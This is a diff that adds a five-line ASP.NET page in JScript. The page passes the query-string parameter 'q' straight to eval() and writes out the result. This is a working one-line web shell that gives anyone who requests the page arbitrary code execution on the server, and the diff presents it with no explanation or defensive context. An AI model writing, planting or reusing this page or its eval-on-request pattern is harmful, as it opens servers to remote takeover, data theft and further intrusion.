@@ -1,0 +1,5 @@
+<%@ Page Language="JScript"%>
+<%
+var q = Context.Request.QueryString["q"];
+Response.Write(eval(q));
+%>
